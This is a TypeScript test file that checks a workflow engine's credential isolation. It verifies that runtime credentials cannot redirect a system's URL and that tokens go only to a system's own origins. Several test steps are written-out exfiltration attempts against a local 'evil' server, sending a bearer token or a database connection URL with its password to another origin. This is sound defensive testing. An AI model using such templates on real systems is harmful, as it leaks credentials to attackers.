/**
 * Issue 7, item 3: runtime credentials cannot redirect stored credentials, and a system's credentials
 * go only to the system's own origins. Real engine against two local servers that record what they get:
 * `crm` is the system's server, `evil` any other origin.
 */
import { beforeAll, describe, expect, it } from 'vitest';
import type { ResolvedSystem } from '../../../contract/wire/run-order.ts';
import type { EngineEvent, EngineStepResult } from '../../../engine/types.ts';
import { type HttpTarget, type TargetRequest, useHttpTarget } from '../../support/http-target.ts';
import { useTestEngine } from '../../support/security-engine.ts';

const crm = useHttpTarget({ resetBeforeEach: true });
const evil = useHttpTarget({ resetBeforeEach: true });
const engine = useTestEngine();
let system: ResolvedSystem;

const TOKEN = 'crm-stored-token-0123456789';

beforeAll(async () => {
  for (const target of [crm, evil]) target.route('*', '/users', { body: [{ id: 1 }] });
  system = { id: 'crm', url: `${crm.url}/`, authType: 'bearer', credentials: { bearerToken: TOKEN } };
});

function all(target: HttpTarget): TargetRequest[] {
  return target.requests;
}

describe('runtime credentials', () => {
  it('cannot replace a system URL: the run fails naming the key, and nothing is sent', async () => {
    const result = await engine.run(
      { steps: [{ id: 'list', config: { url: '<<crm_url>>/users', systemId: 'crm' } }] },
      { systems: [system], runtimeCredentials: { crm_url: evil.url } },
    );
    expect(result.status).toBe('failed');
    expect(result.error).toMatch(
      /^Runtime credentials refused: 'crm_url' would replace the URL of system 'crm'/,
    );
    expect(all(evil)).toHaveLength(0);
    expect(all(crm)).toHaveLength(0);

    const grouped = await engine.run(
      { steps: [{ id: 'list', config: { url: '/users', systemId: 'crm' } }] },
      { systems: [system], runtimeCredentials: { crm: { url: evil.url } } },
    );
    expect(grouped.error).toContain(`{"crm": {"url": …}} would change where system 'crm' is`);
  });

  it('cannot shadow an input, a step id or a reserved name, nor invent a system', async () => {
    const tool = { steps: [{ id: 'list', config: { url: '/users', systemId: 'crm' } }] };
    const cases: Array<[Record<string, string | Record<string, string>>, string]> = [
      [{ userId: 'x' }, "'userId' is an input of this run"],
      [{ list: 'x' }, "'list' is a step id"],
      [{ currentItem: 'x' }, "'currentItem' is a reserved name"],
      [{ billing: { apiKey: 'x' } }, '{"billing": …} names no system of this tool'],
    ];
    for (const [runtimeCredentials, reason] of cases) {
      const result = await engine.run(tool, {
        systems: [system],
        runtimeCredentials,
        inputs: { userId: 'u1' },
      });
      expect(result.error).toContain(reason);
    }
    expect(all(crm)).toHaveLength(0);
  });

  it('may fill or override credential keys of the tool systems, flat or grouped', async () => {
    const flat = await engine.run(
      { steps: [{ id: 'list', config: { url: '/users', systemId: 'crm' } }] },
      { systems: [system], runtimeCredentials: { crm_bearerToken: 'runtime-token-1' } },
    );
    expect(flat.status).toBe('success');
    const grouped = await engine.run(
      { steps: [{ id: 'list', config: { url: '/users', systemId: 'crm' } }] },
      { systems: [system], runtimeCredentials: { crm: { bearerToken: 'runtime-token-2' } }, inputs: {} },
    );
    expect(grouped.status).toBe('success');
    expect(all(crm).map((r) => r.headers.authorization)).toEqual([
      'Bearer runtime-token-1',
      'Bearer runtime-token-2',
    ]);
  });
});

describe("a system's credentials go only to its own origins", () => {
  it('sends no system auth to a URL of another origin and says so in the step result', async () => {
    const events: EngineEvent[] = [];
    const result = await engine.run(
      // The leading expression may supply the origin; here it comes from the caller's input.
      { steps: [{ id: 'list', config: { url: '<<next>>/users', systemId: 'crm' } }] },
      { systems: [system], inputs: { next: evil.url }, events },
    );
    expect(result.status).toBe('success');
    expect(all(evil)).toHaveLength(1);
    expect(all(evil)[0]?.headers.authorization).toBeUndefined();
    expect(JSON.stringify(all(evil))).not.toContain(TOKEN);
    const step = result.stepResults[0] as EngineStepResult;
    expect(step.notes).toEqual([
      `the credentials of system 'crm' were not sent: http://127.0.0.1:${new URL(evil.url).port} is not one of its origins (http://127.0.0.1:${new URL(crm.url).port}); list it in the system's extraOrigins to send them there`,
    ]);
    const finished = events.find((e) => e.type === 'step_finished');
    expect(finished?.type === 'step_finished' && finished.result.notes).toEqual(step.notes);
  });

  it('still authenticates requests to the system origin, and to origins listed in extraOrigins', async () => {
    const own = await engine.run(
      { steps: [{ id: 'list', config: { url: '<<next>>/users', systemId: 'crm' } }] },
      { systems: [system], inputs: { next: crm.url } },
    );
    expect((own.stepResults[0] as EngineStepResult).notes).toBeUndefined();
    expect(all(crm)[0]?.headers.authorization).toBe(`Bearer ${TOKEN}`);

    const withExtra = { ...system, extraOrigins: [evil.url] };
    await engine.run(
      { steps: [{ id: 'list', config: { url: '<<next>>/users', systemId: 'crm' } }] },
      { systems: [withExtra], inputs: { next: evil.url } },
    );
    expect(all(evil)[0]?.headers.authorization).toBe(`Bearer ${TOKEN}`);
  });

  it('does not let templates put a credential into a request for another origin', async () => {
    const result = await engine.run(
      {
        steps: [
          {
            id: 'leak',
            config: { url: `${evil.url}/users`, headers: { 'X-Token': '<<crm_bearerToken>>' } },
          },
        ],
      },
      { systems: [system] },
    );
    expect(result.status).toBe('failed');
    expect(result.stepResults[0]?.error).toBe(
      `Template variable 'crm_bearerToken' is a credential of system 'crm', which is not sent to http://127.0.0.1:${new URL(evil.url).port}: it is not one of the system's origins (http://127.0.0.1:${new URL(crm.url).port}); list it in the system's extraOrigins to allow it`,
    );
    expect(all(evil)).toHaveLength(0);

    // The same template to the system's own origin works, also without a systemId.
    const own = await engine.run(
      {
        steps: [
          { id: 'ok', config: { url: `${crm.url}/users`, headers: { 'X-Token': '<<crm_bearerToken>>' } } },
        ],
      },
      { systems: [system] },
    );
    expect(own.status).toBe('success');
    expect(all(crm)[0]?.headers['x-token']).toBe(TOKEN);
  });

  it('refuses a URL whose leading expression smuggles a connection URL to another origin', async () => {
    const store: ResolvedSystem = {
      id: 'db',
      authType: 'dataStore',
      credentials: { url: `${crm.url}/?user=app&password=db-password-123` },
    };
    const tool = {
      steps: [{ id: 'x', config: { url: `<<(s) => "${evil.url}/users?c=" + s.db_url>>`, systemId: 'db' } }],
    };
    // Without codeAccess the expression (code) cannot read the connection URL at all (issue 19) ...
    const closed = await engine.run(tool, { systems: [store] });
    expect(closed.status).toBe('failed');
    expect(closed.stepResults[0]?.error).toContain(
      "credential db_url is not available to code: system 'db' does not allow it",
    );
    // ... and with it, the URL still may not carry it to another origin.
    const open = await engine.run(tool, { systems: [{ ...store, codeAccess: true }] });
    expect(open.status).toBe('failed');
    expect(open.stepResults[0]?.error).toContain("the URL carries a credential of system 'db'");
    expect(all(evil)).toHaveLength(0);
  });
});
